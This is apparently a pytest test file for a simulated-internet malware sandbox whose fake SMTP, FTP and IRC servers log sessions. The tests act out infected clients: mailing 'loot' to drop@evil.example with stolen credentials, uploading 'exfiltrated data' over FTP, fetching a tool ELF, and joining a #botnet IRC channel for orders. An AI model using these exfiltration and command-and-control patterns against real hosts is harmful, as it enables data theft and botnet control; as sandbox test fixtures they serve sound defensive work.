"""SMTP, FTP and IRC sessions driven by real clients (smtplib, ftplib, a scripted bot)."""

from __future__ import annotations

import ftplib
import hashlib
import io
import smtplib
import socket
import ssl
from pathlib import Path

import pytest

from aasee.hooks.fakenet import FakeInternet
from aasee.hooks.fakenet.content import ELF, fake_file

from .helpers import SERVICE_ADDRESS, connect, event, records, recv_all, recv_until, wait_record

pytestmark = pytest.mark.timeout(30)

MESSAGE = (
    "From: bot@infected.example\r\nTo: drop@evil.example\r\nSubject: loot #1\r\n\r\n"
    "passwords attached\r\n.leading dot line\r\n"
)


def unverified() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def test_smtp_session(fakenet: FakeInternet, log_path: Path) -> None:
    with smtplib.SMTP(SERVICE_ADDRESS, fakenet.ports["smtp"][0], timeout=10) as smtp:
        code, banner = smtp.ehlo("infected-pc")
        assert code == 250
        assert smtp.has_extn("auth") and smtp.has_extn("starttls")
        smtp.login("stolen@example.com", "s3cret")
        refused = smtp.sendmail(
            "bot@infected.example", ["drop@evil.example", "drop2@evil.example"], MESSAGE
        )
        assert refused == {}
    message = wait_record(log_path, event("smtp", "message"))
    assert message["mail_from"] == "bot@infected.example"
    assert message["rcpt_to"] == ["drop@evil.example", "drop2@evil.example"]
    assert message["subject"] == "loot #1"
    assert message["auth_user"] == "stolen@example.com"
    assert message["complete"] is True
    assert ".leading dot line" in message["message_preview"]
    # smtplib dot-stuffs the line; the server must undo it before hashing
    assert message["sha256"] == hashlib.sha256(MESSAGE.encode()).hexdigest()
    auth = wait_record(log_path, event("smtp", "auth"))
    assert (auth["mechanism"], auth["username"], auth["password"]) == (
        "PLAIN",
        "stolen@example.com",
        "s3cret",
    )
    session = wait_record(log_path, event("smtp", "session"))
    assert session["helo"] == "infected-pc"
    assert session["messages"] == 1
    assert session["commands"][0] == "ehlo infected-pc"


def test_smtp_starttls_and_auth_login(fakenet: FakeInternet, log_path: Path) -> None:
    with smtplib.SMTP(SERVICE_ADDRESS, fakenet.ports["smtp"][0], timeout=10) as smtp:
        smtp.starttls(context=unverified())
        smtp.ehlo("tls-client")
        assert not smtp.has_extn("starttls")
        smtp.user, smtp.password = "victim", "pa ss"
        code, _ = smtp.auth("LOGIN", smtp.auth_login)
        assert code == 235
        smtp.sendmail("a@b.example", ["c@d.example"], "Subject: hi\r\n\r\nbody\r\n")
    message = wait_record(log_path, event("smtp", "message"))
    assert message["tls"] is True
    assert message["auth_user"] == "victim"
    auth = wait_record(log_path, event("smtp", "auth"))
    assert auth["mechanism"] == "LOGIN" and auth["password"] == "pa ss"


def test_smtps_implicit_tls(fakenet: FakeInternet, log_path: Path) -> None:
    with smtplib.SMTP_SSL(
        SERVICE_ADDRESS, fakenet.ports["smtps"][0], timeout=10, context=unverified()
    ) as smtp:
        assert smtp.noop()[0] == 250
    session = wait_record(log_path, event("smtps", "session"))
    assert session["tls"] is True


def test_smtp_rejects_out_of_order_and_garbage(fakenet: FakeInternet, log_path: Path) -> None:
    with connect(fakenet, "smtp") as sock:
        assert recv_until(sock, b"\r\n").startswith(b"220 ")
        sock.sendall(b"RCPT TO:<x@y>\r\n")
        assert recv_until(sock, b"\r\n").startswith(b"503 ")
        sock.sendall(b"\xff\xfe\x00garbage\r\n")
        assert recv_until(sock, b"\r\n").startswith(b"502 ")
        sock.sendall(b"X" * 20000 + b"\r\n")
        assert recv_all(sock).startswith(b"500 ")
    session = wait_record(log_path, event("smtp", "session"))
    assert session["command_count"] == 2


def test_ftp_session_with_passive_transfers(fakenet: FakeInternet, log_path: Path) -> None:
    upload = b"exfiltrated data\n" * 5000
    readme = fake_file("readme.txt")
    ftp = ftplib.FTP()
    ftp.connect(SERVICE_ADDRESS, fakenet.ports["ftp"][0], timeout=10)
    try:
        assert ftp.getwelcome().startswith("220 ")
        ftp.login("anonymous", "bot@example.com")
        assert ftp.sendcmd("SYST").startswith("215 ")
        assert ftp.pwd() == "/"
        ftp.cwd("pub")
        assert ftp.pwd() == "/pub"
        listing: list[str] = []
        ftp.retrlines("LIST", listing.append)
        assert len(listing) == 1 and listing[0].endswith("readme.txt")
        assert f" {len(readme)} " in listing[0]
        assert ftp.nlst() == ["readme.txt"]
        downloaded = io.BytesIO()
        ftp.retrbinary("RETR readme.txt", downloaded.write)
        assert downloaded.getvalue() == readme
        assert ftp.size("readme.txt") == len(readme)
        ftp.storbinary("STOR loot.bin", io.BytesIO(upload))
        with pytest.raises(ftplib.error_perm):
            ftp.sendcmd("PORT 10,0,0,1,4,1")  # active mode would connect out from the host
        # EPSV, the passive mode of modern clients, by hand
        reply = ftp.sendcmd("EPSV")
        assert reply.startswith("229 ")
        port = int(reply.split("|||")[1].split("|")[0])
        with socket.create_connection((SERVICE_ADDRESS, port), timeout=10) as data:
            assert ftp.sendcmd("RETR tool.elf").startswith("150 ")
            assert recv_all(data) == ELF
        assert ftp.voidresp().startswith("226 ")
    finally:
        ftp.quit()
    login = wait_record(log_path, event("ftp", "login"))
    assert (login["username"], login["password"]) == ("anonymous", "bot@example.com")
    stored = wait_record(log_path, event("ftp", "transfer", direction="upload"))
    assert stored["path"] == "/pub/loot.bin"
    assert stored["size"] == len(upload)
    assert stored["sha256"] == hashlib.sha256(upload).hexdigest()
    assert stored["complete"] is True
    wait_record(log_path, event("ftp", "transfer", direction="download", path="/pub/tool.elf"))
    session = wait_record(log_path, event("ftp", "session"))
    assert session["transfers"] == 3
    assert "PASS ***" in session["commands"]


def test_ftp_requires_login_and_a_data_connection(fakenet: FakeInternet) -> None:
    with connect(fakenet, "ftp") as sock:
        assert recv_until(sock, b"\r\n").startswith(b"220 ")
        sock.sendall(b"LIST\r\n")
        assert recv_until(sock, b"\r\n").startswith(b"530 ")
        sock.sendall(b"USER a\r\nPASS b\r\n")
        assert b"230 " in recv_until(sock, b"230 Login successful.\r\n")
        sock.sendall(b"RETR x\r\n")
        assert recv_until(sock, b"\r\n").startswith(b"425 ")
        sock.sendall(b"QUIT\r\n")
        assert recv_until(sock, b"\r\n").startswith(b"221 ")


def test_irc_bot_session(fakenet: FakeInternet, log_path: Path) -> None:
    with connect(fakenet, "irc") as sock:
        sock.sendall(b"NICK bot123\r\nUSER bot 0 * :Infected Host\r\n")
        welcome = recv_until(sock, b"End of /MOTD command.\r\n")
        for numeric in (b" 001 bot123 ", b" 002 ", b" 003 ", b" 004 ", b" 375 ", b" 372 "):
            assert numeric in welcome
        sock.sendall(b"PING :12345\r\n")
        assert b"PONG irc.example.net :12345\r\n" in recv_until(sock, b"12345\r\n")
        sock.sendall(b"JOIN #botnet secretkey\r\n")
        joined = recv_until(sock, b"End of /NAMES list.\r\n")
        assert b":bot123!bot@127.0.0.1 JOIN :#botnet\r\n" in joined
        sock.sendall(b"PRIVMSG #botnet :ready for orders\r\nQUIT :bye\r\n")
        assert b"ERROR :Closing Link" in recv_all(sock)
    message = wait_record(log_path, event("irc", "message"))
    assert (message["target"], message["text"], message["nick"]) == (
        "#botnet",
        "ready for orders",
        "bot123",
    )
    wait_record(log_path, event("irc", "join", channel="#botnet"))
    session = wait_record(log_path, event("irc", "session"))
    assert session["nick"] == "bot123"
    assert session["realname"] == "Infected Host"
    assert session["channels"] == ["#botnet"]
    assert session["command_count"] == 6


def test_irc_commands_before_registration_are_refused(fakenet: FakeInternet) -> None:
    with connect(fakenet, "irc") as sock:
        sock.sendall(b"JOIN #x\r\n")
        assert b" 451 " in recv_until(sock, b"registered\r\n")
        sock.sendall(b"NICK n\r\nUSER u 0 * :r\r\n")
        assert b" 001 n " in recv_until(sock, b"End of /MOTD command.\r\n")


def test_sessions_are_recorded_when_the_client_vanishes(
    fakenet: FakeInternet, log_path: Path
) -> None:
    for service in ("smtp", "ftp", "irc"):
        with connect(fakenet, service) as sock:
            sock.sendall(b"NOOP\r\n")
    for service in ("smtp", "ftp", "irc"):
        wait_record(log_path, event(service, "session"))
    assert all(stats["errors"] == 0 for stats in fakenet.stats().values() if "errors" in stats)
    assert records(log_path)
